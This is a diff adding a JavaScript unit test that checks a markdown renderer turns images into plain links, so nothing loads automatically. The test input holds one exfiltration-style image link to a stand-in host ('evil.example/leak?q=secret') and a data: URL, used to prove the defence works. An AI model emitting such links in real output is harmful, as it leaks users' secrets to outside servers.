@@ -54,6 +54,17 @@ describe('markdown rendering', () => {
     expect(el.textContent).toContain('<script>alert(1)</script>');
   });
 
+  it('shows an image as a link and never as an image', () => {
+    const el = dom(renderMarkdown('See ![the chart](https://evil.example/leak?q=secret) and ![](data:image/png;base64,AAAA).'));
+    expect(el.querySelector('img')).toBeNull();
+    const links = [...el.querySelectorAll('a')];
+    expect(links[0]?.getAttribute('href')).toBe('https://evil.example/leak?q=secret');
+    // DOMPurify drops a data: URL from a link: the text stays, nothing loads.
+    expect(links[1]?.getAttribute('href') ?? null).toBeNull();
+    expect(links[0]?.textContent).toBe('the chart');
+    expect(links[0]?.getAttribute('rel')).toContain('noreferrer');
+  });
+
   it('opens links in a new tab without an opener', () => {
     const a = dom(renderMarkdown('[site](https://example.com)')).querySelector('a');
     expect(a?.getAttribute('target')).toBe('_blank');
